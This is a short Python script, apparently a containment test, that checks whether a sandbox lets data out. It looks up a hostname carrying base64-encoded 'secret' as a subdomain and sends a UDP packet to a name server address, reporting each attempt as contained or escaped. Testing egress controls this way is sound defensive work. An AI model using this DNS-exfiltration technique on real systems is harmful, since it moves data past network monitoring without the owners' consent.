"""Carries data out inside the names that it asks for."""

import socket

from attack import contained, escaped
from surroundings import is_alone

if is_alone():
    for name in ("c2VjcmV0.example.invalid", "example.invalid"):
        try:
            seen = socket.getaddrinfo(name, 80)
        except socket.gaierror as error:
            contained(f"{name}: {error.strerror}")
        else:
            escaped(f"{name}: {seen}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        try:
            datagrams.sendto(b"x", ("192.0.2.53", 53))
        except OSError as error:
            contained(f"a name server: {error.strerror}")
        else:
            escaped("a datagram left")
